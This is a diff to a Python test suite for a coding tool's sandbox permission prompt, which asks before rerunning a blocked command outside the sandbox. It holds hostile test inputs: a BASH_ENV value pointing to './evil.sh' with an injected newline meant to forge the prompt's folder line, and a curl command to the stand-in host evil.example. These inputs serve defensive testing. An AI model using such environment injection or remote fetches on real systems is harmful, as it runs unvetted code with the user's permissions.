@@ -15,6 +15,7 @@ from tau.coding.tools.eval import Eval
 from tests.coding.context import call
 from tests.safety.contained_rig import ScriptedUi, contained_shell
 
+WORK = Path("/work")
 GET_EVIL = "curl -sS --max-time 20 http://evil.example/"
 
 
@@ -192,19 +193,35 @@ def test_no_folder_that_contains_the_home_folder_is_offered() -> None:
     assert grant_folder(home / "a" / "new") == home / "a"
 
 
+def test_running_outside_shows_the_folder_and_the_variables_of_the_command() -> None:
+    """BASH_ENV alone would run anything, with the user's permissions."""
+
+    async def main() -> None:
+        ui = ScriptedUi(0)
+        grants = SandboxGrants(ui)  # type: ignore[arg-type]
+        attempt = BlockedAttempt("socket", "/run/docker.sock")
+        env = {"BASH_ENV": "./evil.sh\nfolder: /"}
+        assert await grants.ask_rerun(attempt, "docker ps", WORK, env) == "no"
+        title = ui.asked[0][0]
+        assert "folder: /work\n" in title and "variable BASH_ENV: ./evil.sh<U+000A>folder: /" in title
+
+    asyncio.run(main())
+
+
 def test_questions_come_one_at_a_time_and_show_the_whole_command() -> None:
     async def main() -> None:
         ui = ScriptedUi(0, 0)
         grants = SandboxGrants(ui)  # type: ignore[arg-type]
         attempt = BlockedAttempt("socket", "/run/docker.sock")
-        assert await grants.ask_rerun(attempt, "docker ps\x1b[2J") == "no"
+        assert await grants.ask_rerun(attempt, "docker ps\x1b[2J", WORK, {}) == "no"
         assert "\x1b" not in ui.asked[0][0]
-        assert await grants.ask_rerun(attempt, "docker ps\x1b[2J") == "no"
+        assert await grants.ask_rerun(attempt, "docker ps\x1b[2J", WORK, {}) == "no"
         assert len(ui.asked) == 1
         long = "x" * 9_000
-        assert await grants.ask_rerun(attempt, long) == "no"
-        assert "5,000 characters not shown" in ui.asked[1][0]
-        assert await grants.ask_rerun(attempt, "docker images") == "no"
+        assert await grants.ask_rerun(attempt, long, WORK, {}) == "no"
+        assert "characters not shown" in ui.asked[1][0]
+        assert OUTSIDE_ONCE in ui.asked[0][1] and OUTSIDE_ONCE not in ui.asked[1][1]
+        assert await grants.ask_rerun(attempt, "docker images", WORK, {}) == "no"
         assert len(ui.asked) == 2
 
     asyncio.run(main())
